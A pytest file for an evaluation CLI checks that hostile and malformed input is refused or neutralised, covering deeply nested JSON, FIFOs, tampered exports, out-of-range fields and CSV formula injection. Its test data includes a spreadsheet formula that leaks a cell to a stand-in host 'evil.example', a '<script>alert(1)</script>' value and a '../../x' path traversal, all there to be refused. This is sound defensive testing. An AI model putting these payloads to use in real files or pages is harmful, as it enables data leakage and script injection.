"""Hostile and careless input (issue 13): each case is refused with a one-line error, or made harmless.

Every refused action leaves the store byte for byte as it was, and no input
gives a traceback: the CLI prints ``Error: …`` naming the file and field and
exits 1 (2 for a bad option, as click does).
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner
from helpers import FIXTURES
from helpers.cli import CORPUS_SMALL, evals, forbid_work, stored_store
from helpers.corpora import conversation
from helpers.errors import one_line_error
from helpers.plugins import dist_info
from helpers.stores import files_beside, unchanged

from evals.cli import cli
from evals.store import Store

# -- helpers ------------------------------------------------------------------------------------


def corpus_of(folder: Path, *conversations: dict) -> Path:
    """A corpus folder holding ``conversations``, each in the file named after its id."""
    folder.mkdir(parents=True, exist_ok=True)
    for data in conversations:
        (folder / f"{data['id']}.json").write_text(json.dumps(data), encoding="utf-8")
    return folder


def write_json(path: Path, data) -> Path:
    """``data`` (a string as it is, anything else as JSON) written to ``path``."""
    path.write_text(data if isinstance(data, str) else json.dumps(data), encoding="utf-8")
    return path


def validate_problems(folder: Path) -> list[str]:
    """What ``evals validate`` printed, one problem a line; it must have exited 1."""
    result = evals("validate", folder)
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result.output.splitlines()


@pytest.fixture
def store(tmp_path) -> Path:
    """A store holding one genuine run, for refused actions to leave exactly as it was."""
    return stored_store(tmp_path / "store")


# -- 3. degenerate keywords ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "field, value, where",
    [
        ("expected_keywords", [""], "expected_keywords[0]"),
        ("expected_keywords", ["vim", " \t"], "expected_keywords[1]"),
        ("expected_fact", "", "expected_fact"),
        ("expected_fact", "   ", "expected_fact"),
    ],
)
def test_blank_keyword_or_fact_is_refused(tmp_path, field, value, where):
    """An empty or whitespace-only keyword or fact (which would match every record) is a validate problem."""
    data = conversation()
    data["turns"][1]["test_at"][field] = value
    if field == "expected_fact":
        data["turns"][1]["test_at"]["expected_keywords"] = []
    corpus = corpus_of(tmp_path / "c", data)
    file = corpus / "c1.json"
    assert validate_problems(corpus) == [
        f"{file}: turns[1].test_at.{where}: must not be empty or only whitespace (it would match any record)"
    ]


def test_blank_keyword_no_longer_scores_no_memory_a_hit(tmp_path, store):
    """`evals run` refuses the corpus instead of scoring no_memory's empty retrieval a hit; the store is unchanged."""
    data = conversation()
    data["turns"][1]["test_at"]["expected_keywords"] = [""]
    corpus = corpus_of(tmp_path / "c", data)
    with unchanged(store):
        line = one_line_error(evals("run", "--runner", "no_memory", "--corpus", corpus, "--store", store))
    assert "turns[1].test_at.expected_keywords[0]: must not be empty" in line


def test_importers_skip_a_question_with_a_blank_answer(tmp_path):
    """A benchmark question whose answer is blank is skipped with a note, so the imported corpus stays valid."""
    data = json.loads((FIXTURES / "importers" / "locomo_small.json").read_text(encoding="utf-8"))
    data[0]["qa"][0]["answer"] = "  "
    source = write_json(tmp_path / "locomo.json", data)
    result = evals("import-corpus", "locomo", source, "--out", tmp_path / "out")
    assert result.exit_code == 0, result.output
    assert "note: [0].qa[0]: the answer is empty (question skipped)" in result.output
    assert evals("validate", tmp_path / "out").exit_code == 0


# -- 4. validator gaps --------------------------------------------------------------------------


def test_id_must_be_the_file_name(tmp_path):
    """An id that differs from the file name (as corpus/README.md requires) is a problem."""
    corpus = tmp_path / "c"
    corpus.mkdir()
    (corpus / "a.json").write_text(json.dumps(conversation("first")), encoding="utf-8")
    assert validate_problems(corpus) == [
        f"{corpus / 'a.json'}: id: 'first' differs from the file name; it must be 'a' (the file name without .json)"
    ]


@pytest.mark.parametrize(
    "edit, where, suggestion",
    [
        (
            lambda d: d["turns"][1]["test_at"].update(expected_keyword=["vim"]),
            "turns[1].test_at.expected_keyword",
            "expected_keywords",
        ),
        (lambda d: d["turns"][1]["test_at"].update(answerabel=False), "turns[1].test_at.answerabel", "answerable"),
        (lambda d: d.update(schema_versoin="1"), "schema_versoin", "schema_version"),
        (lambda d: d["turns"][0].update(recrod=False), "turns[0].recrod", "record"),
    ],
)
def test_unknown_field_is_refused_with_a_suggestion(tmp_path, edit, where, suggestion):
    """A misspelled field is not silently ignored: it is named, with the field it was probably meant to be."""
    data = conversation()
    edit(data)
    corpus = corpus_of(tmp_path / "c", data)
    assert validate_problems(corpus) == [f"{corpus / 'c1.json'}: {where}: unknown field (did you mean '{suggestion}'?)"]


def test_unknown_field_without_a_near_name(tmp_path):
    """A field like no known one is named as unknown, listing the fields allowed there."""
    data = conversation(notes="anything")
    corpus = corpus_of(tmp_path / "c", data)
    assert validate_problems(corpus) == [
        f"{corpus / 'c1.json'}: notes: unknown field (allowed here: schema_version, id, description, turns)"
    ]


@pytest.mark.parametrize("role", ["system", "tool", "User", ""])
def test_role_must_be_user_or_assistant(tmp_path, role):
    """Roles outside user/assistant are refused at their JSON path."""
    data = conversation()
    data["turns"][0]["role"] = role
    corpus = corpus_of(tmp_path / "c", data)
    assert validate_problems(corpus) == [
        f"{corpus / 'c1.json'}: turns[0].role: expected 'user' or 'assistant', got {role!r}"
    ]


def test_longmemeval_role_outside_user_assistant(tmp_path):
    """An imported turn with another role is refused at its path in the input, not written."""
    data = json.loads((FIXTURES / "importers" / "longmemeval_small.json").read_text(encoding="utf-8"))
    data[0]["haystack_sessions"][0][0]["role"] = "system"
    source = write_json(tmp_path / "lme.json", data)
    line = one_line_error(evals("import-corpus", "longmemeval", source, "--out", tmp_path / "out"))
    assert line == f"Error: {source}: [0].haystack_sessions[0][0].role: expected 'user' or 'assistant', got 'system'"
    assert not (tmp_path / "out").exists()


def test_duplicate_keys_are_refused(tmp_path):
    """A key given twice in one object (JSON parsers silently keep one) is a problem at its path."""
    corpus = tmp_path / "c"
    corpus.mkdir()
    text = json.dumps(conversation()).replace('"content": "I use vim"', '"content": "I use vim", "content": "I use emacs"')
    (corpus / "c1.json").write_text(text, encoding="utf-8")
    assert validate_problems(corpus) == [f"{corpus / 'c1.json'}: turns[0]: key 'content' appears twice"]


def test_duplicate_top_level_key(tmp_path):
    """A duplicate key at the top level is named without a path."""
    corpus = tmp_path / "c"
    corpus.mkdir()
    text = json.dumps(conversation())[:-1] + ', "id": "c1"}'
    (corpus / "c1.json").write_text(text, encoding="utf-8")
    assert validate_problems(corpus) == [f"{corpus / 'c1.json'}: key 'id' appears twice"]


def test_the_rules_are_documented():
    """corpus/README.md states each new rule."""
    readme = (Path(__file__).resolve().parent.parent / "corpus" / "README.md").read_text(encoding="utf-8")
    for phrase in ("empty or only whitespace", "unknown field", "appears twice", "lone surrogate"):
        assert phrase in readme, phrase


# -- 5. tracebacks ------------------------------------------------------------------------------

DEEP = "[" * 3000 + "]" * 3000


def exported_run(tmp_path: Path, runner: str = "no_memory", corpus: Path = CORPUS_SMALL) -> dict:
    """A genuine export of one run of ``runner`` (made in a store of its own), as a dict."""
    source = tmp_path / "source.duckdb"
    result = evals("run", "--runner", runner, "--corpus", corpus, "--store", source)
    assert result.exit_code == 0, result.output
    run_id = result.output.split("run ", 1)[1].split(":", 1)[0]
    out = tmp_path / f"export-{run_id}.json"
    assert evals("export", run_id, "--store", source, "--output", out).exit_code == 0
    return json.loads(out.read_text(encoding="utf-8"))


def test_deep_json_in_a_corpus(tmp_path):
    """JSON nested 3,000 deep: validate names the file and the limit instead of a RecursionError."""
    corpus = tmp_path / "c"
    corpus.mkdir()
    write_json(corpus / "c1.json", '{"id": "c1", "description": ' + DEEP + "}")
    assert validate_problems(corpus) == [f"{corpus / 'c1.json'}: JSON nested more than 64 levels deep"]


def test_deep_json_in_run(tmp_path, store):
    """`evals run` on such a corpus: one line naming the file; the store is unchanged."""
    corpus = tmp_path / "c"
    corpus.mkdir()
    write_json(corpus / "c1.json", '{"id": "c1", "description": ' + DEEP + "}")
    with unchanged(store):
        line = one_line_error(evals("run", "--runner", "no_memory", "--corpus", corpus, "--store", store))
    assert line == f"Error: invalid corpus: {corpus / 'c1.json'}: JSON nested more than 64 levels deep"


def test_deep_json_in_import(tmp_path, store):
    """`evals import` of a file nested 3,000 deep: one line naming the file; the store is unchanged."""
    bad = write_json(tmp_path / "deep.json", '{"run": ' + DEEP + "}")
    with unchanged(store):
        line = one_line_error(evals("import", bad, "--store", store))
    assert line == f"Error: {bad}: JSON nested more than 64 levels deep"


def test_deep_json_in_import_corpus(tmp_path):
    """`evals import-corpus` of a file nested 3,000 deep: one line naming the file; nothing written."""
    bad = write_json(tmp_path / "deep.json", DEEP)
    for fmt in ("locomo", "longmemeval"):
        line = one_line_error(evals("import-corpus", fmt, bad, "--out", tmp_path / "out"))
        assert line == f"Error: {bad}: JSON nested more than 64 levels deep"
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("command", ["validate", "import", "import-corpus"])
def test_huge_integer(tmp_path, store, command):
    """An integer of 5,000 digits is refused naming the file, wherever JSON is read."""
    digits = "9" * 5000
    if command == "validate":
        corpus = tmp_path / "c"
        corpus.mkdir()
        write_json(corpus / "c1.json", json.dumps(conversation())[:-1] + f', "x": {digits}}}')
        assert validate_problems(corpus) == [f"{corpus / 'c1.json'}: a number of 5000 digits; at most 20 are read"]
        return
    bad = write_json(tmp_path / "big.json", f'[{{"n": {digits}}}]')
    if command == "import":
        with unchanged(store):
            line = one_line_error(evals("import", bad, "--store", store))
    else:
        line = one_line_error(evals("import-corpus", "locomo", bad, "--out", tmp_path / "out"))
    assert line == f"Error: {bad}: a number of 5000 digits; at most 20 are read"


def test_lone_surrogate_is_refused_by_validate(tmp_path):
    """A lone surrogate escape ("\\ud800") is refused by validate at its JSON path."""
    corpus = tmp_path / "c"
    corpus.mkdir()
    write_json(corpus / "c1.json", json.dumps(conversation()).replace("I use vim", "I use \\ud800 vim"))
    assert validate_problems(corpus) == [
        f"{corpus / 'c1.json'}: turns[0].content: holds a lone surrogate (\\ud800), which is not a character"
    ]


def test_lone_surrogate_does_not_crash_run(tmp_path, store):
    """`evals run` refuses the same corpus in one line instead of crashing; the store is unchanged."""
    corpus = tmp_path / "c"
    corpus.mkdir()
    write_json(corpus / "c1.json", json.dumps(conversation()).replace("I use vim", "I use \\ud800 vim"))
    with unchanged(store):
        line = one_line_error(evals("run", "--runner", "mneme", "--corpus", corpus, "--store", store))
    assert "turns[0].content: holds a lone surrogate" in line


def test_surrogate_pairs_are_characters(tmp_path):
    """An escaped surrogate pair (an emoji, as json.dumps writes it) is one character, and valid."""
    corpus = corpus_of(tmp_path / "c", conversation(description="\U0001f600 fine"))
    assert "\\ud83d\\ude00" in (corpus / "c1.json").read_text()
    assert evals("validate", corpus).exit_code == 0


def test_symlink_to_dev_zero_is_not_read(tmp_path):
    """A corpus file that is a link to /dev/zero is refused as not a regular file, without reading it."""
    corpus = corpus_of(tmp_path / "c", conversation())
    (corpus / "zero.json").symlink_to("/dev/zero")
    assert validate_problems(corpus) == [
        f"{corpus / 'zero.json'}: not a regular file (a character device); only regular files are read"
    ]


def test_fifo_does_not_hang(tmp_path):
    """A FIFO named like a corpus file is refused at once instead of waiting for a writer."""
    import os

    corpus = corpus_of(tmp_path / "c", conversation())
    os.mkfifo(corpus / "pipe.json")
    assert validate_problems(corpus) == [f"{corpus / 'pipe.json'}: not a regular file (a FIFO); only regular files are read"]


@pytest.mark.parametrize("make", ["fifo", "device", "dangling"])
def test_references_file_that_is_not_a_regular_file(tmp_path, make):
    """references.json that is a FIFO, a device or a dangling link is one problem naming it, never read or waited on."""
    import os

    corpus = corpus_of(tmp_path / "c", conversation())
    target = corpus / "references.json"
    if make == "fifo":
        os.mkfifo(target)
    else:
        target.symlink_to("/dev/zero" if make == "device" else tmp_path / "gone.json")
    (line,) = validate_problems(corpus)
    assert line.startswith(f"{target}: "), line


def test_run_refuses_a_corpus_with_bad_references(tmp_path):
    """`evals run` refuses a corpus whose references.json is invalid, naming the file and field, and writes no store."""
    corpus = corpus_of(tmp_path / "c", conversation())
    (corpus / "references.json").write_text(
        json.dumps([{"label": "x", "citation": "y", "metric": "recall", "level": "turn", "k": 5, "value": 0.5}])
    )
    store = tmp_path / "s.duckdb"
    line = one_line_error(evals("run", "--runner", "no_memory", "--corpus", corpus, "--store", store))
    assert line.startswith(f"Error: invalid corpus: {corpus / 'references.json'}: [0].metric: expected 'recall_any'"), line
    assert not store.exists()


def test_file_size_is_bounded(tmp_path, monkeypatch):
    """A corpus file larger than the limit is refused before it is read, saying both sizes."""
    from evals.io import jsonfile

    monkeypatch.setattr(jsonfile, "MAX_CORPUS_FILE_BYTES", 100)
    corpus = corpus_of(tmp_path / "c", conversation())
    size = (corpus / "c1.json").stat().st_size
    assert validate_problems(corpus) == [f"{corpus / 'c1.json'}: {size} bytes; files over 100 bytes are not read"]


def test_import_of_a_fifo_does_not_hang(tmp_path, store):
    """`evals import` of a FIFO: refused at once; the store is unchanged."""
    import os

    pipe = tmp_path / "pipe.json"
    os.mkfifo(pipe)
    with unchanged(store):
        line = one_line_error(evals("import", pipe, "--store", store))
    assert line == (
        f"Error: {pipe}: not a regular file (a FIFO); only regular files are read"
    )


def test_serve_on_a_busy_port(tmp_path):
    """`evals serve` on a port already taken: one line saying so, not an OSError traceback."""
    import socket

    site = tmp_path / "site"
    site.mkdir()
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        line = one_line_error(evals("serve", "--dir", site, "--port", str(port)))
    assert line.startswith(f"Error: cannot serve on 127.0.0.1:{port}: ") and "--port" in line


# -- 1. imports are checked ---------------------------------------------------------------------


def tampered(document: dict) -> dict:
    """``document`` with one turn of its transcript edited, its corpus digest left as it was."""
    turns = document["run"]["conversations"][0]["turns"]
    turns[0]["content"] = "<b>an edited turn</b> " + turns[0]["content"]
    return document


def refused_import(store: Path, document: dict, tmp_path: Path) -> str:
    """Import ``document`` into ``store``: it must be refused in one line with the store unchanged."""
    before = files_beside(store) if store.exists() else None
    path = write_json(tmp_path / "import.json", document)
    line = one_line_error(evals("import", path, "--store", store))
    assert (files_beside(store) if store.exists() else None) == before
    return line


def test_edited_transcript_is_refused_after_a_genuine_run(tmp_path):
    """An export whose transcript was edited (digest kept) is refused: recomputing the digest shows the edit."""
    store = stored_store(tmp_path / "store")
    document = tampered(exported_run(tmp_path))
    line = refused_import(store, document, tmp_path)
    digest = document["run"]["corpus_digest"]
    assert line.startswith(f"Error: {tmp_path / 'import.json'}: run.corpus_digest {digest[:12]}… does not match")
    assert line.endswith("the file was altered, so it is not imported")


def test_edited_transcript_is_refused_into_an_empty_store(tmp_path):
    """In the other order (the edit first) it is refused too, so a later genuine run shows genuine text."""
    store = tmp_path / "empty" / "results.duckdb"
    store.parent.mkdir()
    line = refused_import(store, tampered(exported_run(tmp_path)), tmp_path)
    assert "does not match the file's conversations" in line
    assert not store.exists()


def test_corpus_stored_under_the_digest_must_be_identical(tmp_path):
    """A store that already holds different text under a digest (an import made before imports were
    checked) refuses a genuine import of that digest instead of mixing the two."""
    from dataclasses import replace

    from evals.store import Store
    from evals.views.exchange import read_export

    document = exported_run(tmp_path)
    genuine = write_json(tmp_path / "genuine.json", document)
    record = read_export(genuine)
    edited = record.conversations[0].model_copy(deep=True)
    edited.turns[0].content = "an edited turn"
    forged = replace(record, conversations=[edited, *record.conversations[1:]])
    forged = replace(forged, summary=replace(forged.summary, run_id="0123456789ab"))
    store = tmp_path / "old" / "results.duckdb"
    store.parent.mkdir()
    with Store.open(store) as opened:
        opened.write_records([forged])
    line = refused_import(store, document, tmp_path)
    cid = record.conversations[0].id
    assert line == (
        f"Error: {tmp_path / 'import.json'}: run {record.summary.run_id} is on corpus {document['run']['corpus_digest'][:12]}, "
        f"but the store holds different text under that digest (conversation {cid!r}, turn 0); refusing to mix them"
    )


@pytest.mark.parametrize(
    "edit, expected",
    [
        (
            lambda d: d["run"].update(timestamp="9999-12-31T00:00:00+00:00"),
            "run.timestamp: 9999-12-31T00:00:00+00:00 is in the future",
        ),
        (lambda d: d.update(k=-5), "k: must be at least 1, got -5"),
        (lambda d: d.update(k=2**31), "k: must be at most 2147483647, got 2147483648"),
        (lambda d: d.update(seed=2**63), "seed: must be at most 9223372036854775807, got 9223372036854775808"),
        (lambda d: d["run"].update(duration_s=-1.0), "run.duration_s: must be at least 0, got -1.0"),
        (
            lambda d: d["run"].update(corpus_digest="zz"),
            "run.corpus_digest: expected a sha256 (64 lower-case hex digits), got 'zz'",
        ),
        (lambda d: d["run"].update(run_id="../../x"), "run.run_id: expected a run id (12 lower-case hex digits), got '../../x'"),
        (
            lambda d: d["run"].update(commit="<script>alert(1)</script>"),
            "run.commit: expected a git commit (40 or 64 lower-case hex digits) or 'no-git', got '<script>alert(1)</script>'",
        ),
        (
            lambda d: d["run"]["conversations"][0]["test_points"][0].update(record_tokens=[-3]),
            "run.conversations[0].test_points[0].record_tokens[0]: must be at least 0, got -3",
        ),
        (lambda d: d["run"].update(cache_hits=-1), "run.cache_hits: must be at least 0, got -1"),
    ],
)
def test_out_of_range_fields_are_refused(tmp_path, edit, expected):
    """Each field of an export is range-checked; a bad one refuses the whole import, naming file and field."""
    store = stored_store(tmp_path / "store")
    document = exported_run(tmp_path)
    edit(document)
    line = refused_import(store, document, tmp_path)
    assert line.startswith(f"Error: {tmp_path / 'import.json'}: not a valid evals export: {expected}"), line


def test_nan_duration_is_refused(tmp_path):
    """``duration_s: NaN`` (which Python's json accepts) is refused at its path."""
    store = stored_store(tmp_path / "store")
    document = exported_run(tmp_path)
    path = tmp_path / "import.json"
    text = json.dumps(document).replace(f'"duration_s": {json.dumps(document["run"]["duration_s"])}', '"duration_s": NaN')
    assert "NaN" in text
    path.write_text(text, encoding="utf-8")
    before = files_beside(store)
    assert one_line_error(evals("import", path, "--store", store)) == f"Error: {path}: NaN is not a number JSON allows"
    assert files_beside(store) == before


def test_answers_are_range_checked(tmp_path):
    """An export's answers are checked as well: a negative token count is refused."""
    from evals.store import StoreError
    from evals.views.exchange import read_export

    document = exported_run(tmp_path)
    document["answers"] = {"answer_model": "m", "judge_model": None, "base_url": "http://x", "settings": {}}
    document["metrics"]["answers"] = {"requests_made": 0, "requests_cached": 0, "prompt_tokens": 0, "completion_tokens": 0}
    for conv in document["conversations"]:
        for point in conv["test_points"]:
            point["answer"] = {"answer": "a", "prompt_tokens": -1, "completion_tokens": 0, "latency_s": 0.1, "keyword_hit": False}
    path = write_json(tmp_path / "import.json", document)
    with pytest.raises(
        StoreError, match=r"conversations\[0\]\.test_points\[0\]\.answer\.prompt_tokens: must be at least 0, got -1"
    ):
        read_export(path)


def test_genuine_exports_of_every_golden_run_still_import(tmp_path):
    """Every run of the schema-5 golden store (written by an earlier version) exports and imports
    unchanged: the recomputed digest matches what that version stored."""
    import gzip

    from evals.store import Store
    from evals.views.exchange import export_document

    old = tmp_path / "schema5.duckdb"
    with gzip.open(FIXTURES / "stores" / "schema5.duckdb.gz") as packed, old.open("wb") as out:
        shutil.copyfileobj(packed, out)
    Store.upgrade(old)
    with Store.open(old, read_only=True) as store:
        documents = [export_document(store.get_run(s.run_id)) for s in store.runs()]
    paths = [write_json(tmp_path / f"run{i}.json", d) for i, d in enumerate(documents)]
    result = evals("import", *paths, "--store", tmp_path / "new.duckdb")
    assert result.exit_code == 0, result.output
    assert result.output.count("imported run") == len(documents) == 5


# -- 2. CSV formula injection -------------------------------------------------------------------

FORMULA = '=HYPERLINK("evil.example?leak="&A1,"click")'  # a folder name: no slash


def csv_rows(text: str) -> list[dict[str, str]]:
    import csv
    import io

    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def formula_store(tmp_path):
    """A store with one run on a corpus whose folder name is a formula, category '@SUM(1)', seed -7."""
    data = conversation()
    data["turns"][1]["test_at"]["category"] = "@SUM(1)"
    corpus = corpus_of(tmp_path / FORMULA, data)
    store = tmp_path / "results.duckdb"
    result = evals("run", "--runner", "no_memory", "--corpus", corpus, "--store", store, "--seed", "-7")
    assert result.exit_code == 0, result.output
    return store


def test_site_leaderboard_csv_cells_are_neutralised(formula_store, tmp_path):
    """site/leaderboard.csv writes a formula-like corpus name with a leading quote; numbers stay numbers."""
    result = evals("build-site", "--store", formula_store, "--out", tmp_path / "site")
    assert result.exit_code == 0, result.output
    (row,) = csv_rows((tmp_path / "site" / "leaderboard.csv").read_text(encoding="utf-8"))
    assert row["corpus_name"] == "'" + FORMULA
    assert row["keyword_hit_at_k"] == "0.0" and row["k"] == "5"  # keyword recall, renamed (issue 34)


@pytest.mark.parametrize("command", [["runs"], ["leaderboard"]])
def test_cli_csv_cells_are_neutralised(formula_store, command):
    """`evals runs|leaderboard --format csv`: text cells that start like a formula are neutralised, numbers are not."""
    result = evals(*command, "--format", "csv", "--store", formula_store)
    assert result.exit_code == 0, result.output
    (row,) = csv_rows(result.output)
    assert row["corpus_name"] == "'" + FORMULA
    assert row["seed"] == "-7" and row["recall"] == "0.0"


def test_by_category_csv_cells_are_neutralised(formula_store):
    """`evals leaderboard --by-category --format csv`: a category '@SUM(1)' is written as text."""
    result = evals("leaderboard", "--by-category", "--format", "csv", "--store", formula_store)
    assert result.exit_code == 0, result.output
    (row,) = csv_rows(result.output)
    assert row["category"] == "'@SUM(1)" and row["corpus"] == "'" + FORMULA


def test_judge_model_csv_cell_is_neutralised(tmp_path):
    """A --judge-model that reads as a formula is written as text in `runs --format csv` and leaderboard.csv."""
    from helpers.llm_server import LLMServer

    store = tmp_path / "results.duckdb"
    with LLMServer() as server:
        result = evals(
            "run", "--runner", "recency", "--corpus", CORPUS_SMALL, "--store", store, "--base-url", server.base_url,
            "--judge", "--judge-model", "+SUM(1)", env={"EVALS_LLM_BACKOFF": "0.01", "OPENAI_API_KEY": "sk-unused-0000"},
        )
    assert result.exit_code == 0, result.output
    (row,) = csv_rows(evals("runs", "--format", "csv", "--store", store).output)
    assert row["judge_model"] == "'+SUM(1)"
    assert evals("build-site", "--store", store, "--out", tmp_path / "site").exit_code == 0
    (row,) = csv_rows((tmp_path / "site" / "leaderboard.csv").read_text(encoding="utf-8"))
    assert row["judge_model"] == "'+SUM(1)"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_csv_cell_rule(text):
    """OWASP's rule: a text cell starting with = + - @ tab or CR gets a leading quote; numbers never."""
    from evals.model.formatting import csv_cell

    assert csv_cell(text) == "'" + text
    assert csv_cell(-1) == -1 and csv_cell(-0.5) == -0.5 and csv_cell("plain") == "plain" and csv_cell(None) is None


# -- 6. late failures ---------------------------------------------------------------------------


def chattr(flag: str, path: Path) -> bool:
    import subprocess

    return shutil.which("chattr") is not None and subprocess.run(["chattr", flag, str(path)], capture_output=True).returncode == 0


def refused_forced_run(store: Path) -> str:
    """The one line that refuses ``evals run --runner mneme --force`` into ``store``."""
    return one_line_error(evals("run", "--runner", "mneme", "--corpus", CORPUS_SMALL, "--store", store, "--force"))


def test_immutable_store_fails_before_the_run(tmp_path, monkeypatch):
    """An immutable store file (chattr +i) is refused before anything is computed, in one line."""
    store = stored_store(tmp_path / "store")
    forbid_work(monkeypatch)
    if not chattr("+i", store):
        pytest.skip("chattr +i is not available here (needs root and a file system that supports it)")
    try:
        with unchanged(store):
            line = refused_forced_run(store)
        assert line == f"Error: cannot write to store {store}: Operation not permitted"
    finally:
        chattr("-i", store)


def test_read_only_store_fails_before_the_run(tmp_path, monkeypatch):
    """A store file without write permission is refused before anything is computed (even for root,
    who could write it: read-only is taken as meant)."""
    store = stored_store(tmp_path / "store")
    forbid_work(monkeypatch)
    store.chmod(0o444)
    try:
        with unchanged(store):
            line = refused_forced_run(store)
        assert line == f"Error: store {store} is read-only (mode 444); make it writable (chmod u+w), or give another --store"
    finally:
        store.chmod(0o644)


def test_read_only_cache_fails_before_the_run(tmp_path, monkeypatch):
    """A read-only cache file beside the store is refused before the run, pointing at --no-cache."""
    from evals.io.cache import Cache, cache_path_for

    store = stored_store(tmp_path / "store")
    cache = cache_path_for(store)
    with Cache.open(cache) as made:
        made.put("test:x", "key", b"value")
    forbid_work(monkeypatch)
    cache.chmod(0o444)
    try:
        line = refused_forced_run(store)
        assert line == f"Error: cache {cache} is read-only (mode 444); make it writable (chmod u+w), or run with --no-cache"
    finally:
        cache.chmod(0o644)


@pytest.mark.parametrize(
    "option, value, expected",
    [
        ("--k", "2147483648", "Invalid value for '--k': 2147483648 is not in the range 1<=x<=2147483647."),
        ("--k", "0", "Invalid value for '--k': 0 is not in the range 1<=x<=2147483647."),
        ("--seed", str(2**63), f"Invalid value for '--seed': {2**63} is not in the range {-(2**63)}<=x<={2**63 - 1}."),
        ("--concurrency", "100000", "Invalid value for '--concurrency': 100000 is not in the range 1<=x<=256."),
        ("--max-retries", "1000", "Invalid value for '--max-retries': 1000 is not in the range 0<=x<=100."),
        ("--request-timeout", "nan", "Invalid value for '--request-timeout': nan is not a finite number of seconds."),
        ("--request-timeout", "inf", "Invalid value for '--request-timeout': inf is not a finite number of seconds."),
        ("--request-timeout", "1e9", "Invalid value for '--request-timeout': 1000000000.0 is not in the range 0<x<=3600."),
    ],
)
def test_numeric_options_are_checked_before_any_work(store, monkeypatch, option, value, expected):
    """An out-of-range number is refused by the option parser, before a store is opened or a run computed."""
    forbid_work(monkeypatch)
    with unchanged(store):
        result = evals("run", "--runner", "no_memory", "--corpus", CORPUS_SMALL, "--store", store, option, value)
    assert result.exit_code == 2, result.output
    assert result.output.splitlines()[-1] == f"Error: {expected}"


def test_jobs_is_bounded(tmp_path):
    """build-site --jobs is checked like the other numbers."""
    result = evals("build-site", "--store", tmp_path / "s.duckdb", "--out", tmp_path / "site", "--jobs", "100000")
    assert result.exit_code == 2 and "100000 is not in the range 1<=x<=64" in result.output


@pytest.mark.parametrize("value", ["nan", "-1", "inf", "1e6"])
def test_backoff_variable_is_checked(store, value):
    """$EVALS_LLM_BACKOFF must be a finite number of seconds, 0 to 60, or the run is refused at once."""
    with unchanged(store):
        result = evals(
            "run", "--runner", "no_memory", "--corpus", CORPUS_SMALL, "--store", store, "--with-answers", "--force",
            "--base-url", "http://127.0.0.1:9/v1", env={"EVALS_LLM_BACKOFF": value},
        )
    assert one_line_error(result) == f"Error: EVALS_LLM_BACKOFF must be a number of seconds from 0 to 60, not {value!r}"


def test_run_config_bounds_k():
    """RunConfig, what the CLI builds, refuses the same k the store could not hold."""
    from pydantic import ValidationError

    from evals.run.evaluate import RunConfig

    with pytest.raises(ValidationError):
        RunConfig(k=2**31)


def test_import_into_a_read_only_store_fails_before_reading(tmp_path):
    """`evals import` into a read-only store is refused before the files are read."""
    store = stored_store(tmp_path / "store")
    store.chmod(0o444)
    try:
        line = one_line_error(evals("import", tmp_path / "does-not-matter.json", "--store", store))
        assert line == f"Error: store {store} is read-only (mode 444); make it writable (chmod u+w), or give another --store"
    finally:
        store.chmod(0o644)


# -- 7. build-site --out must not hold the store ------------------------------------------------


def test_build_site_refuses_an_out_holding_the_store(tmp_path):
    """The CI pattern gone wrong: the store restored into the site's data/ folder and the site rebuilt
    over it would delete the store's cache of paid replies. Refused; nothing changes."""
    from evals.io.cache import Cache, cache_path_for

    first = stored_store(tmp_path / "store")
    site = tmp_path / "site"
    assert evals("build-site", "--store", first, "--out", site).exit_code == 0
    store = site / "data" / "results.duckdb"
    with Cache.open(cache_path_for(store)) as cache:
        cache.put("chat:x", "key", b"a paid reply")
    before = {p: p.read_bytes() for p in sorted(site.rglob("*")) if p.is_file()}
    line = one_line_error(evals("build-site", "--store", store, "--out", site))
    assert line == (
        f"Error: --out {site.absolute()} holds the store {store.absolute()} (and its cache); a build replaces that whole "
        "folder, so it would delete them: choose another --out, or keep the store elsewhere"
    )
    assert {p: p.read_bytes() for p in sorted(site.rglob("*")) if p.is_file()} == before


def test_build_site_refuses_the_store_folder_itself(tmp_path):
    """--out naming the folder the store is in is refused the same way (if it were empty but for the store)."""
    store = stored_store(tmp_path / "store")
    line = one_line_error(evals("build-site", "--store", store, "--out", store.parent))
    assert f"holds the store {store.absolute()}" in line


# -- 8. one huge turn ---------------------------------------------------------------------------

HUGE = 2_000_000  # characters of the huge turn (the issue saw 50 MB; 2 MB shows the same)


@pytest.fixture
def huge_site(tmp_path):
    """A site of bm25 and full_history runs on a conversation whose first turn is 2 MB, with the answer at its start."""
    filler = ("lorem ipsum dolor sit amet " * (HUGE // 27 + 1))[: HUGE - 40]
    big = "The deploy bucket is larkspur-prod-7. " + filler + " THE END."
    turns = [{"role": "user", "content": big}, {"role": "assistant", "content": "Noted."}]
    for i in range(3):
        turns += [
            {"role": "user", "content": f"filler {i}"},
            {"role": "assistant", "content": f"ok {i}"},
            {
                "role": "user",
                "content": f"question {i}",
                "test_at": {
                    "question": "Which bucket for deploys?",
                    "expected_fact": "larkspur-prod-7",
                    "expected_keywords": ["larkspur-prod-7"],
                },
            },
        ]
    corpus = corpus_of(tmp_path / "huge", {"schema_version": "1", "id": "huge", "description": "one huge turn", "turns": turns})
    store = tmp_path / "results.duckdb"
    for runner in ("bm25", "full_history"):
        assert evals("run", "--runner", runner, "--corpus", corpus, "--store", store).exit_code == 0
    assert evals("build-site", "--store", store, "--out", tmp_path / "site").exit_code == 0
    return tmp_path / "site", big


def test_huge_turn_gives_bounded_pages(huge_site):
    """No page holds the huge turn whole: every drill-down stays far below its size."""
    site, big = huge_site
    pages = list((site / "runs").rglob("*.html"))
    assert pages and max(p.stat().st_size for p in pages) < 200_000


def test_capped_text_states_its_length_and_links_the_whole(huge_site):
    """A capped text shows its start and end, says how long it is, and the transcript links the whole turn."""
    import re

    site, big = huge_site
    page = next(p for p in (site / "runs").rglob("huge.html") if "larkspur" in p.read_text(encoding="utf-8"))
    html = page.read_text(encoding="utf-8")
    assert f"{len(big):,} characters" in html
    assert "THE END." in html and "<mark>larkspur-prod-7</mark>" in html
